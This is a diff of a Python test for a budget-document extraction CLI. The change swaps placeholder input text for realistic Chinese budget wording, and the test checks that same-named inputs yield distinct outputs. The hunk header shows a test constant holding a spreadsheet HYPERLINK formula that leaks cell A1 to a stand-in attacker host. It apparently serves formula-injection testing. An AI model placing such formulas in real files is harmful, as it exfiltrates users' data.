@@ -29,7 +29,9 @@ EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
 def test_same_named_inputs_get_distinct_outputs(tmp_path: Path) -> None:
     for folder in ("a", "b"):
         (tmp_path / folder).mkdir()
-        (tmp_path / folder / "x.txt").write_text(f"部门预算 {folder}\n支出合计 1.00\n", encoding="utf-8")
+        (tmp_path / folder / "x.txt").write_text(
+            f"石家庄市{folder}局2024年部门预算\n一、收入支出预算总体情况\n"
+            f"石家庄市{folder}局2024年收入预算总计100.00万元，支出预算总计100.00万元。\n", encoding="utf-8")
     done = cli("extract", str(tmp_path / "a" / "x.txt"), str(tmp_path / "b" / "x.txt"),
                "-o", str(tmp_path / "out"), "--no-audit")
     assert done.returncode == 0, done.stderr
